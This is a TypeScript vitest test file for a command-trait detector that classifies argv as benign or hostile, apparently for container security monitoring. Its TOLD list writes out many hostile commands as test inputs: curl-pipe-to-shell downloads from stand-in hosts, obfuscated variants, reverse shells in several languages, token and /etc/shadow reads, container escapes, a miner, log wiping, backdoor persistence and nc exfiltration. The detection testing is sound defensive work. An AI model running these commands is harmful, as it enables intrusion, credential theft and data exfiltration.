import { describe, expect, test } from 'vitest';
import { traitsOf } from '../../../src/engine/facts/command-traits.ts';
import type { CommandTrait } from '../../../src/model/index.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const sh = (script: string): readonly string[] => ['sh', '-c', script];

/** Work of every day: shells at most, and programs that clusters are looked after with. */
const CALM: readonly (readonly string[])[] = [
  sh('which curl'),
  sh('apk add --no-cache curl'),
  ['curl', '--version'],
  sh('grep wget /var/log/x.log'),
  sh('curl -s http://api.web.svc:8080/healthz'),
  ['curl', 'http://other-svc:8080/health'],
  ['curl', '-sS', 'http://10.2.3.4:9090/metrics'],
  sh('curl -o /dev/null -s -w "%{http_code}" http://cart:80'),
  ['wget', '-qO-', 'localhost:8080'],
  ['wget', '-q', '-O', '-', 'http://127.0.0.1:80/'],
  ['env'],
  sh('cd /app && bundle exec rake db:migrate'),
  sh('ls /etc/*'),
  sh('for f in *.log; do gzip $f; done'),
  sh('OLDIFS=$IFS; IFS=,; echo a; IFS=$OLDIFS'),
  sh(String.raw`printf "\xe2\x9c\x94 done\n"; printf "\x1b[31m"`),
  sh(String.raw`grep -E "x\d\w" app.log`),
  sh('echo aGVsbG8gd29ybGQhIQ== | base64 -d'),
  sh('echo $CONFIG | base64 -d | python3 -m json.tool'),
  sh('zcat dump.sql.gz | psql app'),
  sh('PGPASSWORD=hunter2 psql -h db -c "select 1"'),
  sh('test -f /tmp/ready && cat /proc/meminfo'),
  sh('mount | grep data; df -h'),
  ['nc', '-zv', 'db', '5432'],
  sh('chmod 755 /app/run.sh && /app/run.sh'),
  sh('if [ -x /bin/bash ]; then exec /bin/bash; else exec /bin/sh; fi'),
  sh(
    'TERM=xterm; export TERM; [ -x /bin/bash ] && (/usr/bin/script -q -c "/bin/bash" /dev/null || exec /bin/bash) || exec /bin/sh',
  ),
  sh('clear; (bash || ash || sh)'),
  ['fsfreeze', '-f', '/data'],
  ['openssl', 'version'],
  ['node', '-e', 'console.log(1)'],
  ['modprobe'],
];

const TOLD: readonly (readonly [argv: readonly string[], ...traits: CommandTrait[]])[] = [
  [sh('wget -qO- http://203.0.113.9/x | bash'), 'shell', 'download', 'fetch-and-run'],
  [
    sh('curl -s https://evil.example/i.sh -o /tmp/i && chmod +x /tmp/i && /tmp/i'),
    'shell',
    'download',
    'fetch-and-run',
  ],
  [sh('bash <(curl -s https://evil.example/i)'), 'shell', 'download', 'fetch-and-run'],
  [sh('bash -c "$(curl -fsSL https://evil.example/i)"'), 'shell', 'download', 'fetch-and-run'],
  [sh('curl http://10.9.9.9/x | tee /tmp/x | sh; wget 10.9.9.9/y'), 'shell', 'download', 'fetch-and-run'],
  [['busybox', 'wget', 'http://203.0.113.9/x'], 'shell', 'download'],
  [['/usr/bin/env', 'X=1', 'timeout', '5', 'curl', 'evil.example/x'], 'download'],
  [['wget', 'http://mirror.local/tool'], 'download'],
  [sh('A=cu;B=rl;$A$B http://evil.example/x'), 'shell', 'download'],
  [['bash', '-c', String.raw`$'\x63url' http://evil.example/x`], 'shell', 'download', 'disguised'],
  [['bash', '-c', String.raw`$'\143\165\162\154' http://evil.example/x`], 'shell', 'download', 'disguised'],
  [sh(String.raw`c\u\r\l http://evil.example`), 'shell', 'download', 'disguised'],
  [sh("c''u''r''l http://evil.example"), 'shell', 'download', 'disguised'],
  [sh('/???/c?t /etc/hostname'), 'shell', 'disguised'],
  [sh(`echo ${hex('curl http://203.0.113.9/x')} | xxd -r -p | sh`), 'shell', 'download', 'disguised'],
  [sh('echo "x/9.311.0.302//:ptth lruc" | rev | sh'), 'shell', 'download', 'disguised'],
  [sh("echo 'phey uggc://203.0.113.9/k' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"), 'shell', 'download', 'disguised'],
  [
    ['python3', '-c', `exec(__import__('base64').b64decode('${b64('import socket,subprocess;s=socket.socket()')}'))`],
    'reverse-shell',
    'disguised',
  ],
  [
    ['perl', '-e', `eval(decode_base64('${b64('system("curl http://203.0.113.9")')}'))`],
    'download',
    'fetch-and-run',
    'disguised',
  ],
  [['python', '-c', [...'curl http://x.y'].map((each) => `chr(${each.charCodeAt(0)})`).join('+')], 'download'],
  [
    [
      'powershell',
      '-enc',
      Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString('base64'),
    ],
    'shell',
    'download',
    'fetch-and-run',
    'disguised',
  ],
  [['cat', '/var/run/secrets/azure/tokens/azure-identity-token'], 'token'],
  [['cat', '/var/run/secrets/tokens/gcp-ksa/token'], 'token'],
  [['cat', '/var/run/s*/kubernetes.io/serviceaccount/tok*n'], 'token'],
  [['cat', '/e*/sh?d?w'], 'sensitive-file'],
  [['cat', '/proc/self/environ'], 'sensitive-file'],
  [['curl', 'http://[::ffff:169.254.169.254]/latest'], 'metadata'],
  [['php', '-r', '$s=fsockopen("1.2.3.4",4);exec("/bin/sh -i <&3 >&3");'], 'shell', 'reverse-shell'],
  [['ruby', '-rsocket', '-e', 'f=TCPSocket.open("1.2.3.4",4).to_i;exec "x"'], 'reverse-shell'],
  [['lua', '-e', "require('socket');t=socket.tcp();io.popen('id')"], 'reverse-shell'],
  [['awk', 'BEGIN{s="/inet/tcp/0/1.2.3.4/44"}'], 'reverse-shell'],
  [['node', '-e', 'require("child_process").exec("x");net.connect(1)'], 'reverse-shell'],
  [sh('sh -i | nc 1.2.3.4 44'), 'shell', 'reverse-shell'],
  [sh('telnet 1.2.3.4 44 | /bin/sh | telnet 1.2.3.4 45'), 'shell', 'reverse-shell'],
  [sh('mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -connect 1.2.3.4:44 > /tmp/s'), 'shell', 'reverse-shell'],
  [['zsh', '-c', 'zmodload zsh/net/tcp && ztcp 1.2.3.4 44'], 'shell', 'reverse-shell'],
  [['ssh', '-fNR', '9000:localhost:22', 'u@evil.example'], 'reverse-shell'],
  [['nsenter', '--target', '1', '--mount', '--', 'ls'], 'escape', 'tool'],
  [['chroot', '/host', 'id'], 'escape', 'tool'],
  [['chroot', '/app', 'id'], 'tool'],
  [sh('mount /dev/sda1 /mnt'), 'shell', 'escape', 'tool'],
  [['dd', 'if=/dev/nvme0n1', 'of=/tmp/x'], 'escape'],
  [sh('docker -H unix:///var/run/docker.sock run -v /:/host alpine'), 'shell', 'sensitive-file', 'escape', 'tool'],
  [sh('echo x > /proc/sys/kernel/core_pattern'), 'shell', 'escape', 'tool'],
  [['crictl', 'ps'], 'tool'],
  [['kubectl', 'get', 'secrets'], 'tool'],
  [sh('xmrig -o stratum+tcp://pool.minexmr.com:4444'), 'shell', 'miner', 'tool'],
  [['/tmp/.x/kdevtmpfsi'], 'miner'],
  [sh('history -c; unset HISTFILE'), 'shell', 'cover-up'],
  [sh('> /var/log/auth.log'), 'shell', 'cover-up'],
  [['rm', '-f', '/root/.bash_history'], 'sensitive-file', 'cover-up'],
  [sh('echo "* * * * * x" | crontab -'), 'shell', 'foothold'],
  [sh('echo ssh-rsa AAA >> /root/.ssh/authorized_keys'), 'shell', 'sensitive-file', 'foothold'],
  [['useradd', '-o', '-u', '0', 'x'], 'foothold'],
  [sh('tar czf - /data | nc 1.2.3.4 44'), 'shell', 'copy-out'],
  [sh('aws s3 cp /data s3://x'), 'shell', 'copy-out', 'tool'],
];

describe('what a command does', () => {
  test.each(CALM)('nothing to see: %s %s %s', (...argv) => {
    expect(traitsOf(argv).filter((trait) => trait !== 'shell' && trait !== 'tool')).toEqual([]);
  });

  test.each(TOLD.map(([argv, ...traits]) => ({ argv, traits })))('$argv', ({ argv, traits }) => {
    expect(traitsOf(argv)).toEqual(traits);
  });

  test.each([
    '$A',
    'A=b$A ',
    "''",
    String.raw`c\u`,
    '/?/',
    '/*a',
    'nc |',
    'chr(99)+',
    'rev ',
    'rot13 ',
    'xxd 616161616161 ',
    'base64 -d|',
    'sh -c ',
    'env A=b ',
    '>> ',
    'curl http://',
    "$'\\",
    'mount /dev/',
    'exec(',
    'HISTFILE=',
  ])('of a hostile line is told in linear time: %j', (piece) => {
    // Longer than any URI that the decoder lets through; a quadratic expression would run into the test's own limit.
    expect(traitsOf(['sh', '-c', piece.repeat(Math.ceil(60_000 / piece.length))])).toContain('shell');
  });
});
